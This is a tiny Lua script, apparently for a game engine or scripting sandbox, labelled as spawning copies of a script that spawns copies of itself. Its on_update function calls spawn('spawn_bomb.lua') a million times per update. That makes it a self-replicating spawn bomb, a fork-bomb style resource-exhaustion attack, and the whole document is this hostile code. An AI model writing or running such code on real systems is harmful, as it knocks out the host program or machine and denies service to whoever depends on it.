-- Spawns copies of a script that spawns copies of itself.
function on_update(self)
  for i = 1, 1e6 do spawn('spawn_bomb.lua') end
end
